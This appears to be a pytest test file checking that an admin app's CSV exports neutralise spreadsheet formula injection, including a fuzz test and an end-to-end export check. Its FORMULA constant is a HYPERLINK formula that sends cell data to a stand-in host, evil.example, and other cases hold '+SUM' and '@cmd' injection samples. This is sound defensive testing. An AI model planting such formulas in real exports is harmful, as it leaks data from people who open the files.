"""Every CSV the app writes is safe to open in a spreadsheet (#14.12)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from conftest import SeedShop
from hypothesis import given
from hypothesis import strategies as st

from minime_admin.domain.actor import Actor
from minime_admin.domain.csv_cells import neutralise, safe_row
from minime_admin.domain.export_scope import Scope
from minime_admin.services.export import export_customer
from minime_admin.store.models import Customer

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klikšķini")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # amounts stay numbers
        ("-1250", "-1250"),
        ("+37129123456", "+37129123456"),  # a phone number is no formula
        ("Ģirts Ķēniņš-Žūriņa", "Ģirts Ķēniņš-Žūriņa"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(cell: str, written: str) -> None:
    assert neutralise(cell) == written


@given(st.text())
def test_fuzz_a_neutralised_cell_never_starts_a_formula(cell: str) -> None:
    safe = neutralise(cell)
    assert safe == cell or safe == "'" + cell
    if safe[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert safe.lstrip("+-").replace(".", "").replace(",", "").isdigit()


def test_safe_row_writes_none_as_empty_and_numbers_as_text() -> None:
    assert safe_row([None, 5, "=1"]) == ["", "5", "'=1"]


def test_the_export_package_csv_is_neutralised_and_its_json_is_exact(
    seed_shop: SeedShop, clerk: Actor, tmp_path: Path
) -> None:
    database = seed_shop(customers=3, seed=4)
    with database.unit_of_work() as session:
        session.get(Customer, 1).first_name = FORMULA
    with database.unit_of_work() as session:
        result = export_customer(session, clerk, 1, tmp_path, Scope.ACCESS)
    with zipfile.ZipFile(result.path) as archive:
        rows = list(
            csv.DictReader(io.StringIO(archive.read("profile-customers.csv").decode("utf-8-sig")))
        )
        data = json.loads(archive.read("data.json"))
    assert rows[0]["first_name"] == "'" + FORMULA
    assert data["categories"]["profile"]["customers"][0]["first_name"] == FORMULA
